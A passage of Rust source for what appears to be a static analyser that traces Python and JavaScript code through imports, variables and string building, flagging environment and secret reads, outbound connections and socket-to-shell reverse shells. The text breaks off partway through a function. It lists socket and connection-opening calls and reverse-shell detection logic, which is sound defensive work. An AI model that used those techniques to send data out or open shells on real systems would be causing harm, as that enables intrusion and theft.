//! Python and JavaScript (tree-sitter-python, tree-sitter-javascript; TypeScript is read by the
//! JavaScript grammar, which recovers past type annotations). The two languages are walked by
//! one evaluator: both are calls, attributes, strings, `+` and assignments, and the node names
//! that differ are listed per language in [`Kinds`]. Values are followed through variables,
//! imports and aliases (`import requests as r`, `const {exec} = require('child_process')`),
//! string building (`'http://' + host`, f-strings, templates) and the receivers of method
//! chains (`requests.get(u).text`); a call the tables do not know passes on what went in.

use std::collections::HashMap;

use tree_sitter::Node;

use super::facts::{Act, Found, Taint, Val};
use super::knowledge::{host_of, is_secret_path, var_taint};
use super::program::{DefId, DefKind, Program, Unit};
use super::{Lang, World, decode, shell};
use crate::text::Span;

/// Analyse `text` in `lang` found at `base` in its file (a lone text: the unit tests).
/// `left || right` (JavaScript's `||` and `??`, Python's `or`): when `left` is unknown and
/// `right` is a constant, `right` is the value a reader must assume
/// (`process.env.KUBECONFIG || home + "/.kube/config"`), carrying what `left` carried.
fn fallback(left: Val, right: Val) -> Val {
    if left.text.is_none() && right.text.is_some() {
        let mut v = right;
        v.merge(&left);
        v
    } else {
        Val::derived([&left, &right])
    }
}

#[cfg(test)]
pub(crate) fn analyse(lang: Lang, text: &str, base: usize, world: &mut World) -> Found {
    let mut s = Script::new(lang, text, base, None, 0);
    s.top = true;
    if let Some(tree) = super::parse(lang, text) {
        s.run(tree.root_node(), world);
    }
    s.out
}

/// Analyse a parsed unit of the skill's program (its top level; functions run when called).
pub(crate) fn analyse_unit(unit: &Unit<'_>, root: Node<'_>, world: &mut World) -> Found {
    let mut s = Script::new(unit.lang, &unit.text, unit.base, None, unit.file);
    s.top = true;
    s.run(root, world);
    s.out
}

/// A function nothing called, with its arguments unknown.
pub(crate) fn call_alone(prog: &Program<'_>, id: DefId, world: &mut World) -> Found {
    let unit = &prog.units[prog.def(id).unit];
    let mut caller = Script::new(unit.lang, "", 0, None, unit.file);
    caller.call_def(prog, id, &[], &[], world);
    caller.out
}

/// The skill's script `id` run by path with `args` (`python3 scripts/x.py "$key"`): they are
/// its `sys.argv[1:]` / `process.argv.slice(2)`.
pub(crate) fn call_script(
    prog: &Program<'_>,
    id: DefId,
    args: &[Val],
    world: &mut World,
    out: &mut Found,
) -> Val {
    let unit = &prog.units[prog.def(id).unit];
    let mut caller = Script::new(unit.lang, "", 0, None, out.file);
    let result = caller.call_def(prog, id, args, &[], world);
    out.extend(caller.out);
    result
}

/// The names a unit imports (`import requests as r`, `const x = require('./lib/x')`), all
/// of them wherever they stand: a function of the unit called from elsewhere sees them.
pub(crate) fn imports(unit: &Unit<'_>, root: Node<'_>) -> HashMap<String, String> {
    let mut s = Script::new(unit.lang, &unit.text, unit.base, None, unit.file);
    let mut stack = vec![root];
    while let Some(n) = stack.pop() {
        match n.kind() {
            "import_statement" | "import_from_statement" if unit.lang == Lang::Python => {
                s.py_import(n)
            }
            "import_statement" => s.js_import(n),
            "variable_declarator" => {
                if let (Some(l), Some(r)) = (
                    n.child_by_field_name("name"),
                    n.child_by_field_name("value"),
                ) && let Some(module) = s.required_module(r)
                {
                    if l.kind() == "object_pattern" {
                        for p in Script::children(l) {
                            let t = s.text(p);
                            let (a, b) = t
                                .split_once(':')
                                .map_or((t, t), |(a, b)| (a.trim(), b.trim()));
                            s.aliases.insert(b.to_string(), format!("{module}.{a}"));
                        }
                    } else {
                        s.aliases.insert(s.text(l).to_string(), module);
                    }
                }
            }
            _ => {}
        }
        let mut c = n.walk();
        stack.extend(n.named_children(&mut c));
    }
    s.aliases
}

/// A nested script (`python -c "..."`, `exec(decoded)`), reported at `span` of `file`.
pub(crate) fn analyse_nested(
    lang: Lang,
    text: &str,
    span: Span,
    file: usize,
    world: &mut World,
) -> Found {
    if world.depth >= super::MAX_DEPTH {
        return Found::in_file(file);
    }
    world.depth += 1;
    let mut s = Script::new(lang, text, 0, Some(span), file);
    if let Some(tree) = super::parse(lang, text) {
        s.run(tree.root_node(), world);
    }
    world.depth -= 1;
    s.out
}

/// Node names of the two grammars.
struct Kinds {
    call: &'static str,
    attribute: &'static str,
    attr_object: &'static str,
    attr_name: &'static str,
    subscript: &'static str,
    subscript_object: &'static str,
    binary: &'static str,
}

const PYTHON: Kinds = Kinds {
    call: "call",
    attribute: "attribute",
    attr_object: "object",
    attr_name: "attribute",
    subscript: "subscript",
    subscript_object: "value",
    binary: "binary_operator",
};

const JAVASCRIPT: Kinds = Kinds {
    call: "call_expression",
    attribute: "member_expression",
    attr_object: "object",
    attr_name: "property",
    subscript: "subscript_expression",
    subscript_object: "object",
    binary: "binary_expression",
};

/// Calls that open a raw socket: a name bound to one is a connection and, for a reverse
/// shell, the socket its streams are tied to.
const SOCKET_OPENERS: &[&str] = &[
    "socket.socket",
    "socket.create_connection",
    "net.Socket",
    "net.connect",
    "net.createConnection",
    "tls.connect",
];

/// The other calls whose result is a connection to somewhere (HTTP, WebSocket, mail, FTP,
/// SSH, telnet, UDP, socket.io, ZeroMQ): data written to it leaves the machine.
const OTHER_CONNECTION_OPENERS: &[&str] = &[
    "https.request",
    "http.request",
    "WebSocket",
    "websocket.create_connection",
    "websockets.connect",
    "smtplib.SMTP",
    "smtplib.SMTP_SSL",
    "ftplib.FTP",
    "ftplib.FTP_TLS",
    "http.client.HTTPSConnection",
    "http.client.HTTPConnection",
    "paramiko.SSHClient",
    "telnetlib.Telnet",
    "dgram.createSocket",
    "io",
    "zmq.Context().socket",
];

/// Keyword arguments and option keys that are not payload (who is asking, not what is sent).
const NOT_PAYLOAD: &[&str] = &[
    "headers",
    "auth",
    "timeout",
    "verify",
    "cookies",
    "proxies",
    "allow_redirects",
    "stream",
    "cert",
    "method",
    "mode",
    "credentials",
    "cache",
    "redirect",
    "signal",
    "agent",
    "url",
    "follow_redirects",
    "encoding",
];

struct Script<'s> {
    lang: Lang,
    k: &'static Kinds,
    src: &'s str,
    base: usize,
    pinned: Option<Span>,
    vars: HashMap<String, Val>,
    /// Local names of imported modules and functions, with their full dotted names.
    aliases: HashMap<String, String>,
    /// Variables holding an open file, with its path.
    handles: HashMap<String, String>,
    /// Sockets, descriptor copies and shells seen: together a reverse shell.
    socket: Option<Span>,
    dup_or_pipe: bool,
    shell_spawn: bool,
    out: Found,
    /// Whether this runs a unit's top level: its assignments are the module's globals.
    top: bool,
    /// The class whose method this runs (`self.x`/`this.x` are its fields).
    class: Option<String>,
    /// Variables holding an instance of a class of the skill, with the class.
    instances: HashMap<String, String>,
    /// Variables holding a connection (a socket, a request, a websocket, a mail client):
    /// what is written to them leaves the machine.
    connections: std::collections::HashSet<String>,
    /// What the function returned (its `return` values, merged).
    returns: Val,
}

impl<'s> Script<'s> {
    fn new(lang: Lang, src: &'s str, base: usize, pinned: Option<Span>, file: usize) -> Script<'s> {
        Script {
            lang,
            k: if lang == Lang::Python {
                &PYTHON
            } else {
                &JAVASCRIPT
            },
            src,
            base,
            pinned,
            vars: HashMap::new(),
            aliases: HashMap::new(),
            handles: HashMap::new(),
            socket: None,
            dup_or_pipe: false,
            shell_spawn: false,
            out: Found::in_file(file),
            top: false,
            class: None,
            instances: HashMap::new(),
            connections: std::collections::HashSet::new(),
            returns: Val::default(),
        }
    }

    fn run(&mut self, root: Node<'_>, world: &mut World) {
        self.visit(root, world);
        self.reverse_shell_seen();
    }

    fn reverse_shell_seen(&mut self) {
        if let Some(span) = self.socket
            && self.dup_or_pipe
            && self.shell_spawn
        {
            self.out.act(
                span,
                Act::ShellOverSocket {
                    how: "a socket's streams are handed to a shell".into(),
                },
            );
        }
    }

    fn span(&self, node: Node<'_>) -> Span {
        self.pinned.unwrap_or_else(|| {
            Span::new(self.base + node.start_byte(), self.base + node.end_byte())
        })
    }

    fn text(&self, node: Node<'_>) -> &'s str {
        &self.src[node.byte_range()]
    }

    fn children<'t>(node: Node<'t>) -> Vec<Node<'t>> {
        let mut c = node.walk();
        node.named_children(&mut c).collect()
    }

    /// Whether definitions are followed when called (a unit of the program) rather than
    /// walked where they stand (a lone or nested text).
    fn deferred(&self, world: &World) -> bool {
        world.prog.is_some() && self.pinned.is_none()
    }

    /// Statements, in order.
    fn visit(&mut self, node: Node<'_>, world: &mut World) {
        match node.kind() {
            "comment" => {}
            // functions run when called (or on their own at the end); a class's own
            // statements (its constants) run now, its methods when called
            "function_definition"
            | "function_declaration"
            | "generator_function_declaration"
            | "method_definition"
            | "decorated_definition"
                if self.deferred(world) => {}
            "class_definition" | "class_declaration" if self.deferred(world) => {
                let name = node
                    .child_by_field_name("name")
                    .map(|n| self.text(n).to_string());
                let outer = std::mem::replace(&mut self.class, name);
                if let Some(body) = node.child_by_field_name("body") {
                    for child in Self::children(body) {
                        self.visit(child, world);
                    }
                }
                self.class = outer;
            }
            "return_statement" | "yield" => {
                for child in Self::children(node) {
                    let v = self.eval(child, world);
                    self.returns.merge(&v);
                    if self.returns.text.is_none() {
                        self.returns.text = v.text;
                    }
                }
            }
            "import_statement" | "import_from_statement" | "future_import_statement"
                if self.lang == Lang::Python =>
            {
                self.py_import(node)
            }
            "import_statement" => self.js_import(node),
            "assignment"
            | "augmented_assignment"
            | "variable_declarator"
            | "assignment_expression"
            | "augmented_assignment_expression" => {
                self.assignment(node, world);
            }
            "with_statement" => {
                for child in Self::children(node) {
                    if child.kind() == "with_clause" {
                        for item in Self::children(child) {
                            self.with_item(item, world);
                        }
                    } else {
                        self.visit(child, world);
                    }
                }
            }
            "for_statement" | "for_in_statement" => self.for_loop(node, world),
            "expression_statement" | "await_expression" => {
                for child in Self::children(node) {
                    self.eval(child, world);
                }
            }
            k if k == self.k.call || k == "new_expression" => {
                self.eval(node, world);
            }
            _ => {
                for child in Self::children(node) {
                    self.visit(child, world);
                }
            }
        }
    }

    /// A loop over a literal list runs once per element (each path or URL keeps its text);
    /// over anything else, once with the loop variables made of what the iterable holds.
    fn for_loop(&mut self, node: Node<'_>, world: &mut World) {
        const MAX_UNROLLED: usize = 16;
        let right = node.child_by_field_name("right");
        let left = node.child_by_field_name("left");
        let body = node.child_by_field_name("body");
        let elements: Vec<Node<'_>> = right
            .filter(|r| matches!(r.kind(), "list" | "tuple" | "array"))
            .map(Self::children)
            .unwrap_or_default();
        // a name bound to a literal list earlier (a module's `SOURCES = [...]`)
        let listed = right
            .filter(|r| r.kind() == "identifier")
            .and_then(|r| world.lists.get(&(self.out.file, self.text(r).to_string())))
            .cloned();
        let values: Vec<Val> = if let Some(listed) = listed.filter(|l| l.len() <= MAX_UNROLLED) {
            listed
        } else if !elements.is_empty() && elements.len() <= MAX_UNROLLED {
            elements.into_iter().map(|e| self.eval(e, world)).collect()
        } else {
            let whole = right.map(|r| self.eval(r, world)).unwrap_or_default();
            vec![Val::derived([&whole])]
        };
        for value in values {
            if let Some(left) = left {
                if left.kind() == "identifier" {
                    self.store(self.text(left), value.clone(), world);
                } else {
                    // `for k, v in ...`, `for (const [k, v] of ...)`: each name
                    for part in self
                        .text(left)
                        .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
                        .filter(|p| !p.is_empty() && !matches!(*p, "const" | "let" | "var"))
                    {
                        self.store(part, Val::derived([&value]), world);
                    }
                }
            }
            if let Some(body) = body {
                self.visit(body, world);
            }
        }
    }

    fn py_import(&mut self, node: Node<'_>) {
        let module = node
            .child_by_field_name("module_name")
            .map(|m| self.text(m).to_string());
        let mut c = node.walk();
        for name in node.children_by_field_name("name", &mut c) {
            let (full, local) = if name.kind() == "aliased_import" {
                let n = name
                    .child_by_field_name("name")
                    .map(|n| self.text(n))
                    .unwrap_or("");
                let a = name
                    .child_by_field_name("alias")
                    .map(|a| self.text(a))
                    .unwrap_or(n);
                (n.to_string(), a.to_string())
            } else if module.is_some() {
                let n = self.text(name).to_string();
                (n.clone(), n)
            } else {
                // `import a.b` binds `a`
                let n = self.text(name);
                let head = n.split('.').next().unwrap_or(n).to_string();
                (head.clone(), head)
            };
            let full = match &module {
                Some(m) => format!("{m}.{full}"),
                None => full,
            };
            self.aliases.insert(local, full);
        }
    }

    fn js_import(&mut self, node: Node<'_>) {
        let source = node.child_by_field_name("source").map(|s| {
            self.text(s)
                .trim_matches(['"', '\'', '`'])
                .trim_start_matches("node:")
                .to_string()
        });
        let Some(module) = source else { return };
        let text = self.text(node);
        // `import x from 'm'`, `import * as x from 'm'`, `import {a, b as c} from 'm'`
        let head = text
            .split(" from ")
            .next()
            .unwrap_or("")
            .trim_start_matches("import")
            .trim();
        for part in head
            .split([',', '{', '}'])
            .map(str::trim)
            .filter(|p| !p.is_empty())
        {
            let part = part.trim_start_matches("* as ").trim();
            let (name, local) = match part.split_once(" as ") {
                Some((n, l)) => (n.trim(), l.trim()),
                None => (part, part),
            };
            let full = if head.contains('{') && text.find(name) > text.find('{') {
                format!("{module}.{name}")
            } else {
                module.clone()
            };
            self.aliases.insert(local.to_string(), full);
        }
    }

    fn assignment(&mut self, node: Node<'_>, world: &mut World) {
        let (left, right) = match node.kind() {
            "variable_declarator" => (
                node.child_by_field_name("name"),
                node.child_by_field_name("value"),
            ),
            _ => (
                node.child_by_field_name("left"),
                node.child_by_field_name("right"),
            ),
        };
        let (Some(left), Some(right)) = (left, right) else {
            if let Some(r) = right {
                self.eval(r, world);
            }
            return;
        };
        // `const {exec, spawn} = require('child_process')`
        if left.kind() == "object_pattern"
            && let Some(module) = self.required_module(right)
        {
            for p in Self::children(left) {
                let t = self.text(p);
                let (n, l) = t
                    .split_once(':')
                    .map_or((t, t), |(a, b)| (a.trim(), b.trim()));
                self.aliases.insert(l.to_string(), format!("{module}.{n}"));
            }
            return;
        }
        if let Some(module) = self.required_module(right) {
            self.aliases.insert(self.text(left).to_string(), module);
            return;
        }
        // a function bound to a name runs when called (the program indexed it)
        if self.deferred(world)
            && matches!(
                right.kind(),
                "lambda" | "arrow_function" | "function_expression" | "function"
            )
        {
            return;
        }
        let augmented = node.kind().starts_with("augmented");
        let value = self.eval(right, world);
        let name = self.text(left).to_string();
        if matches!(right.kind(), "list" | "tuple" | "array") && left.kind() == "identifier" {
            let elements: Vec<Val> = Self::children(right)
                .into_iter()
                .map(|e| self.eval(e, world))
                .collect();
            world.lists.insert((self.out.file, name.clone()), elements);
        }
        if let Some(path) = self.opened_path(right, world) {
            self.handles.insert(name.clone(), path);
        }
        if let Some(class) = self.instantiated(right, world) {
            self.instances.insert(name.clone(), class);
        }
        let socket = self.is_call_to(right, SOCKET_OPENERS);
        if socket || self.is_call_to(right, OTHER_CONNECTION_OPENERS) {
            self.connections.insert(name.clone());
        }
        if socket {
            self.socket = Some(self.span(right));
        }
        let value = if augmented {
            let prev = self.lookup(&name, world);
            let prev = if prev == Val::default() {
                Val::text("")
            } else {
                prev
            };
            prev.concat(&value)
        } else {
            value
        };
        match left.kind() {
            "identifier" | "attribute" | "member_expression" => self.store(&name, value, world),
            // `d[k] = v`: what `d` holds now includes `v`
            "subscript" | "subscript_expression" => {
                let object = left
                    .child_by_field_name(self.k.subscript_object)
                    .map(|o| self.text(o).to_string())
                    .unwrap_or_default();
                self.merge_into(&object, &value, world);
            }
            _ => {
                // tuple and pattern targets: each name gets the value's provenance
                for part in self
                    .text(left)
                    .split(|c: char| !(c.is_alphanumeric() || c == '_'))
                    .filter(|p| !p.is_empty())
                {
                    self.store(part, Val::derived([&value]), world);
                }
            }
        }
    }

    /// Where a name lives: `self.x`/`this.x` in a method are the class's field (merged over
    /// methods), anything else this scope's variable, and a unit's top level is the
    /// module's globals too.
    fn field_key(&self, name: &str) -> Option<String> {
        let rest = name
            .strip_prefix("self.")
            .or_else(|| name.strip_prefix("this."))?;
        let class = self.class.as_deref()?;
        Some(format!(
            "{class}.{}",
            rest.split(['.', '[']).next().unwrap_or(rest)
        ))
    }

    fn store(&mut self, name: &str, value: Val, world: &mut World) {
        if let Some(key) = self.field_key(name) {
            let field = world.fields.entry(key).or_default();
            field.merge(&value);
            if value.text.is_some() {
                field.text = value.text.clone();
            }
        }
        if self.top {
            world
                .globals
                .entry(self.out.file)
                .or_default()
                .insert(name.to_string(), value.clone());
        }
        self.vars.insert(name.to_string(), value);
    }

    /// `x.append(v)`, `x.update(v)`, `x[k] = v`: `x` holds `v` too.
    fn merge_into(&mut self, name: &str, value: &Val, world: &mut World) {
        if name.is_empty() || value.taint.is_empty() {
            return;
        }
        let mut now = self.lookup(name, world);
        now.merge(value);
        now.text = None;
        if self.vars.contains_key(name) || self.top || self.field_key(name).is_some() {
            self.store(name, now, world);
        } else if let Some(globals) = world.globals.get_mut(&self.out.file)
            && let Some(g) = globals.get_mut(name)
        {
            // a module's list or dict filled from inside a function
            g.merge(value);
            g.text = None;
        } else {
            self.vars.insert(name.to_string(), now);
        }
    }

    /// The value of a name: this scope, the class's field, the module's globals.
    fn lookup(&self, name: &str, world: &World) -> Val {
        if let Some(v) = self.vars.get(name) {
            return v.clone();
        }
        if let Some(v) = self.field_key(name).and_then(|k| world.fields.get(&k)) {
            return v.clone();
        }
        world
            .globals
            .get(&self.out.file)
            .and_then(|g| g.get(name))
            .cloned()
            .unwrap_or_default()
    }

    /// The class of the skill `node` makes an instance of (`Reporter()`, `new Sync()`).
    fn instantiated(&self, node: Node<'_>, world: &World) -> Option<String> {
        let prog = world.prog?;
        if node.kind() != self.k.call && node.kind() != "new_expression" {
            return None;
        }
        let f = node
            .child_by_field_name("function")
            .or_else(|| node.child_by_field_name("constructor"))?;
        let name = self.dotted(f)?;
        let last = name.rsplit('.').next().unwrap_or(&name).to_string();
        prog.is_class(&last, self.lang).then_some(last)
    }

    fn with_item(&mut self, item: Node<'_>, world: &mut World) {
        let Some(value) = item.child_by_field_name("value") else {
            return;
        };
        // `open(p) as f` is an `as_pattern` in the grammar
        let (expr, alias) = if value.kind() == "as_pattern" {
            (value.named_child(0), value.child_by_field_name("alias"))
        } else {
            (Some(value), None)
        };
        let Some(expr) = expr else { return };
        let val = self.eval(expr, world);
        if let Some(alias) = alias {
            let name = self.text(alias).to_string();
            if let Some(path) = self.opened_path(expr, world) {
                self.handles.insert(name.clone(), path);
            }
            if self.is_call_to(expr, &["socket.socket", "socket.create_connection"]) {
                self.socket = Some(self.span(expr));
            }
            self.vars.insert(name, val);
        }
    }

    /// `require('m')` -> `m`.
    fn required_module(&self, node: Node<'_>) -> Option<String> {
        if node.kind() != self.k.call {
            return None;
        }
        let f = node.child_by_field_name("function")?;
        if self.text(f) != "require" {
            return None;
        }
        let arg = node.child_by_field_name("arguments")?.named_child(0)?;
        Some(
            self.text(arg)
                .trim_matches(['"', '\'', '`'])
                .trim_start_matches("node:")
                .to_string(),
        )
    }

    fn opened_path(&mut self, node: Node<'_>, world: &mut World) -> Option<String> {
        if !self.is_call_to(
            node,
            &[
                "open",
                "io.open",
                "codecs.open",
                "fs.openSync",
                "fs.createWriteStream",
            ],
        ) {
            return None;
        }
        let arg = node.child_by_field_name("arguments")?.named_child(0)?;
        self.eval(arg, world).text
    }

    fn is_call_to(&self, node: Node<'_>, names: &[&str]) -> bool {
        if node.kind() != self.k.call && node.kind() != "new_expression" {
            return false;
        }
        let f = node
            .child_by_field_name("function")
            .or_else(|| node.child_by_field_name("constructor"));
        f.and_then(|f| self.dotted(f))
            .is_some_and(|d| names.contains(&d.as_str()))
    }

    /// The dotted name of a callee or attribute chain, imports resolved (`r.post` ->
    /// `requests.post`, `__import__('os').system` -> `os.system`).
    fn dotted(&self, node: Node<'_>) -> Option<String> {
        match node.kind() {
            "identifier" | "property_identifier" => {
                let t = self.text(node);
                Some(
                    self.aliases
                        .get(t)
                        .cloned()
                        .unwrap_or_else(|| t.to_string()),
                )
            }
            k if k == self.k.attribute => {
                let object = node.child_by_field_name(self.k.attr_object)?;
                let name = node.child_by_field_name(self.k.attr_name)?;
                let head = match self.dotted(object) {
                    Some(h) => h,
                    None if matches!(object.kind(), "string" | "template_string") => {
                        "str".to_string()
                    }
                    None => "?".to_string(),
                };
                Some(format!("{head}.{}", self.text(name)))
            }
            k if k == self.k.call => {
                let f = node.child_by_field_name("function")?;
                let d = self.dotted(f)?;
                if d == "__import__" || d == "require" || d == "importlib.import_module" {
                    let arg = node.child_by_field_name("arguments")?.named_child(0)?;
                    return Some(self.text(arg).trim_matches(['"', '\'', '`']).to_string());
                }
                Some(format!("{d}()"))
            }
            "parenthesized_expression" => node.named_child(0).and_then(|n| self.dotted(n)),
            "new_expression" => node
                .child_by_field_name("constructor")
                .and_then(|c| self.dotted(c)),
            _ => None,
        }
    }

    fn eval(&mut self, node: Node<'_>, world: &mut World) -> Val {
        let kind = node.kind();
        match kind {
            "string" | "template_string" => self.string(node, world),
            "concatenated_string" => {
                let mut v = Val::text("");
                for c in Self::children(node) {
                    let part = self.eval(c, world);
                    v = v.concat(&part);
                }
                v
            }
            "integer" | "number" | "float" => Val::text(self.text(node)),
            "identifier" => {
                let t = self.text(node);
                if let Some(v) = self.vars.get(t) {
                    return v.clone();
                }
                match self.aliases.get(t).map(String::as_str) {
                    Some("os.environ") => Val::tainted(Taint::ENV_ALL),
                    _ => self.lookup(t, world),
                }
            }
            k if k == self.k.binary => {
                let op = node
                    .child_by_field_name("operator")
                    .map(|o| self.text(o))
                    .unwrap_or("");
                let l = node
                    .child_by_field_name("left")
                    .map(|n| self.eval(n, world))
                    .unwrap_or_default();
                let r = node
                    .child_by_field_name("right")
                    .map(|n| self.eval(n, world))
                    .unwrap_or_default();
                match op {
                    "+" => l.concat(&r),
                    "/" if self.lang == Lang::Python => l.concat(&Val::text("/")).concat(&r),
                    "||" | "??" => fallback(l, r),
                    _ => Val::derived([&l, &r]),
                }
            }
            "boolean_operator" if self.lang == Lang::Python => {
                let mut side = |f: &str| {
                    node.child_by_field_name(f)
                        .map(|n| self.eval(n, world))
                        .unwrap_or_default()
                };
                let (l, r) = (side("left"), side("right"));
                match node.child_by_field_name("operator").map(|o| self.text(o)) {
                    Some("or") => fallback(l, r),
                    _ => Val::derived([&l, &r]),
                }
            }
            k if k == self.k.attribute => self.attribute(node, world),
            k if k == self.k.subscript => self.subscript(node, world),
            k if k == self.k.call || k == "new_expression" => self.call(node, world),
            "parenthesized_expression" | "await" | "await_expression" | "expression_statement" => {
                node.named_child(0)
                    .map(|n| self.eval(n, world))
                    .unwrap_or_default()
            }
            "assignment_expression" | "augmented_assignment_expression" | "assignment" => {
                self.assignment(node, world);
                node.child_by_field_name("left")
                    .map(|l| self.eval(l, world))
                    .unwrap_or_default()
            }
            "lambda"
            | "arrow_function"
            | "function_expression"
            | "function"
            | "function_definition" => {
                // an anonymous function walked where it stands (a callback): its returns are
                // not the enclosing function's
                let outer = std::mem::take(&mut self.returns);
                if let Some(body) = node.child_by_field_name("body") {
                    if matches!(body.kind(), "statement_block" | "block") {
                        self.visit(body, world);
                    } else {
                        self.eval(body, world);
                    }
                }
                self.returns = outer;
                Val::default()
            }
            "shorthand_property_identifier" | "shorthand_property_identifier_pattern" => {
                self.lookup(self.text(node), world)
            }
            "true" | "false" | "none" | "null" | "undefined" | "comment" => Val::default(),
            // a literal collection: its provenance, and its source as text (what a config
            // written from it will say)
            "dictionary" | "list" | "tuple" | "set" | "object" | "array" => {
                let parts: Vec<Val> = Self::children(node)
                    .into_iter()
                    .map(|c| self.eval(c, world))
                    .collect();
                let mut v = Val::derived(parts.iter());
                v.text = Some(self.text(node).to_string());
                v
            }
            _ => {
                let parts: Vec<Val> = Self::children(node)
                    .into_iter()
                    .map(|c| self.eval(c, world))
                    .collect();
                Val::derived(parts.iter())
            }
        }
    }

    fn string(&mut self, node: Node<'_>, world: &mut World) -> Val {
        let children = Self::children(node);
        let mut v = Val::text("");
        let mut any = false;
        for c in children {
            let part = match c.kind() {
                "string_content" | "string_fragment" => Val::text(self.text(c)),
                "escape_sequence" => Val::text(decode::c_escapes(self.text(c))),
                "interpolation" | "template_substitution" => {
                    let inner = c
                        .child_by_field_name("expression")
                        .or_else(|| c.named_child(0));
                    inner.map(|n| self.eval(n, world)).unwrap_or_default()
                }
                _ => continue,
            };
            any = true;
            v = v.concat(&part);
        }
        if !any {
            // a grammar without content nodes for plain strings: strip the quotes
            let t = self.text(node);
            let t = t.trim_start_matches(|c: char| c.is_ascii_alphabetic());
            return Val::text(t.trim_matches(['"', '\'', '`']));
        }
        v
    }

    fn attribute(&mut self, node: Node<'_>, world: &mut World) -> Val {
        let dotted = self.dotted(node).unwrap_or_default();
        match dotted.as_str() {
            "os.environ" | "process.env" | "os.environb" => {
                self.out.act(self.span(node), Act::Env { name: None });
                return Val::tainted(Taint::ENV_ALL);
            }
            "sys.executable" | "process.execPath" => return Val::text("python"),
            _ => {}
        }
        if let Some(name) = dotted.strip_prefix("process.env.") {
            self.out.act(
                self.span(node),
                Act::Env {
                    name: Some(name.to_string()),
                },
            );
            return secret_var(name);
        }
        // an attribute set earlier (`self.endpoint`, `config.url`, `sys.argv` of a script
        // run with arguments)
        let known = self.lookup(self.text(node), world);
        if known != Val::default() {
            return known;
        }
        let object = node
            .child_by_field_name(self.k.attr_object)
            .map(|o| self.eval(o, world))
            .unwrap_or_default();
        Val::derived([&object])
    }

    fn subscript(&mut self, node: Node<'_>, world: &mut World) -> Val {
        let object_node = node.child_by_field_name(self.k.subscript_object);
        let key_node = node
            .child_by_field_name("subscript")
            .or_else(|| node.child_by_field_name("index"));
        let dotted = object_node.and_then(|o| self.dotted(o)).unwrap_or_default();
        let key = key_node.map(|k| self.eval(k, world)).unwrap_or_default();
        if matches!(dotted.as_str(), "os.environ" | "process.env") {
            self.out.act(
                self.span(node),
                Act::Env {
                    name: key.text.clone(),
                },
            );
            return env_var(&key);
        }
        let object = object_node.map(|o| self.eval(o, world)).unwrap_or_default();
        // `s[::-1]`: a reversed string
        if key_node.is_some_and(|k| k.kind() == "slice" && self.text(k).replace(' ', "") == "::-1")
        {
            let mut v = Val::derived([&object]);
            v.text = object.text.map(|t| t.chars().rev().collect());
            v.taint |= Taint::DECODED;
            return v;
        }
        Val::derived([&object, &key])
    }

    fn call(&mut self, node: Node<'_>, world: &mut World) -> Val {
        let func = node
            .child_by_field_name("function")
            .or_else(|| node.child_by_field_name("constructor"));
        let callee = func.and_then(|f| self.dotted(f)).unwrap_or_default();
        // `(async () => {...})()`: the function called is written here; run its body
        if let Some(f) = func.filter(|f| {
            matches!(
                f.kind(),
                "parenthesized_expression"
                    | "arrow_function"
                    | "function_expression"
                    | "function"
                    | "lambda"
            )
        }) {
            self.eval(f, world);
        }
        // `new Function(code)()`, `f(x)(y)`: the inner call is the one that acts; what the
        // function it returns does with these arguments is not known
        if let Some(f) =
            func.filter(|f| matches!(f.kind(), "new_expression" | "call_expression" | "call"))
        {
            let inner = self.eval(f, world);
            let args: Vec<Val> = node
                .child_by_field_name("arguments")
                .map(Self::children)
                .unwrap_or_default()
                .into_iter()
                .map(|a| self.eval(a, world))
                .collect();
            return Val::derived(std::iter::once(&inner).chain(args.iter()));
        }
        // `HANDLERS[kind](data)`: the functions that table holds
        if let Some(table) = func
            .filter(|f| f.kind() == self.k.subscript)
            .and_then(|f| f.child_by_field_name(self.k.subscript_object))
            .map(|o| format!("{}[]", self.text(o)))
            && let Some(prog) = world.prog
            && let Some(id) = prog.function(&table, self.out.file, self.lang)
        {
            let args: Vec<Val> = node
                .child_by_field_name("arguments")
                .map(Self::children)
                .unwrap_or_default()
                .into_iter()
                .map(|a| self.eval(a, world))
                .collect();
            return self.call_def(prog, id, &args, &[], world);
        }
        let receiver_node = func
            .filter(|f| f.kind() == self.k.attribute)
            .and_then(|f| f.child_by_field_name(self.k.attr_object));
        let receiver = receiver_node
            .map(|r| self.eval(r, world))
            .unwrap_or_default();
        let receiver_name = receiver_node.map(|r| self.text(r).to_string());
        // `open(p, 'a').write(x)`: the handle is never named, the file is still written
        if let (Some(r), Some(name)) = (receiver_node, &receiver_name)
            && let Some(path) = self.opened_path(r, world)
        {
            self.handles.insert(name.clone(), path);
        }
        let mut args: Vec<Val> = Vec::new();
        let mut kwargs: Vec<(String, Val)> = Vec::new();
        let mut arg_nodes: Vec<Node<'_>> = Vec::new();
        if let Some(list) = node.child_by_field_name("arguments") {
            for a in Self::children(list) {
                match a.kind() {
                    "keyword_argument" => {
                        let name = a
                            .child_by_field_name("name")
                            .map(|n| self.text(n).to_string())
                            .unwrap_or_default();
                        let v = a
                            .child_by_field_name("value")
                            .map(|v| self.eval(v, world))
                            .unwrap_or_default();
                        kwargs.push((name, v));
                    }
                    "object" => {
                        // an options object: its keys are keyword arguments; as a value, it
                        // is what its payload keys hold
                        let mut whole = Val::default();
                        for pair in Self::children(a) {
                            let key = pair
                                .child_by_field_name("key")
                                .map(|k| self.text(k).trim_matches(['"', '\'']).to_string());
                            let v = pair
                                .child_by_field_name("value")
                                .map(|v| self.eval(v, world))
                                .unwrap_or_else(|| self.eval(pair, world));
                            let key = key.unwrap_or_default();
                            if !NOT_PAYLOAD.contains(&key.as_str()) {
                                whole.merge(&v);
                            }
                            kwargs.push((key, v));
                        }
                        args.push(whole);
                        arg_nodes.push(a);
                    }
                    "comment" => {}
                    _ => {
                        let v = self.eval(a, world);
                        args.push(v);
                        arg_nodes.push(a);
                    }
                }
            }
        }
        let span = self.span(node);
        let shown: Vec<&str> = args.iter().map(Val::shown).collect();
        self.out
            .stmt(span, format!("{callee}({})", shown.join(", ")));
        let last = callee.rsplit('.').next().unwrap_or(&callee).to_string();
        let arg0 = args.first().cloned().unwrap_or_default();
        let payload = || {
            let mut v = Val::default();
            for a in args.iter().skip(1) {
                v.merge(a);
            }
            for (k, a) in &kwargs {
                if !NOT_PAYLOAD.contains(&k.as_str()) {
                    v.merge(a);
                }
            }
            v
        };
        let all = || {
            let mut v = Val::derived(args.iter());
            for (_, a) in &kwargs {
                v.merge(a);
            }
            v
        };
        let kw = |name: &str| {
            kwargs
                .iter()
